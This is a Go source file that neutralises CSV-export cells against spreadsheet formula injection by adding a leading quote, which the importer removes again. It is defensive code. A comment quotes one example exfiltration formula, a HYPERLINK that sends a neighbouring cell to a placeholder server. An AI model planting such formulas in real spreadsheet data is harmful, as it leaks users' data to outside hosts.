package mapio

import (
	"regexp"
	"strings"

	"github.com/actorgraph/actorgraph/domain"
)

// CSV exports are opened in spreadsheets, which run a cell that begins
// with =, +, - or @ (or a tab or carriage return before one) as a
// formula: a name such as =HYPERLINK("http://x/?"&B2,"Open") would send
// a neighbouring cell to anyone's server when an analyst clicks it. As
// OWASP recommends, such a text is written with a leading ' , which
// spreadsheets take as "this is text" and do not show. The CSV reader
// takes that one quote off again, so an export imports as it was.
//
// To keep every text's round trip exact, a text that already begins
// with quotes followed by a trigger ('=x, ''+y) gets one quote more, and
// the reader takes one off any text that begins with one or more quotes
// followed by a trigger. Numbers in numeric columns (a negative
// coordinate or custom number) stay as they are: a spreadsheet reads
// -12.5 as a number, never as a formula, and the importer reads it back
// as the number it is. Workbooks need none of this: their texts are text
// cells, which a spreadsheet never runs.

// formulaTriggers are the first characters that make a spreadsheet read
// a cell as a formula.
const formulaTriggers = "=+-@\t\r"

// quotedTrigger says whether s, after any leading quotes, begins with a
// formula trigger.
func quotedTrigger(s string) bool {
	rest := strings.TrimLeft(s, "'")
	return rest != "" && strings.IndexByte(formulaTriggers, rest[0]) >= 0
}

// neutralise is a text as a CSV export writes it.
func neutralise(s string) string {
	if quotedTrigger(s) {
		return "'" + s
	}
	return s
}

// unneutralise is the text a CSV export wrote as s: the inverse of
// neutralise on everything neutralise writes.
func unneutralise(s string) string {
	if strings.HasPrefix(s, "'") && quotedTrigger(s) {
		return s[1:]
	}
	return s
}

// exportNumber is a number as the exports write it (decimal, with an
// exponent at most), which no spreadsheet reads as a formula.
var exportNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// neutraliseRow is row i of a file as a CSV export writes it, into out:
// every cell neutralised but the plain numbers of numeric columns
// (kinds, by column; see cellKinds) below the header.
func neutraliseRow(out []string, i int, row []string, kinds []domain.CustomKind) []string {
	out = out[:0]
	for j, v := range row {
		if i > 0 && j < len(kinds) && kinds[j] == domain.CustomNumber && exportNumber.MatchString(v) {
			out = append(out, v)
			continue
		}
		out = append(out, neutralise(v))
	}
	return out
}
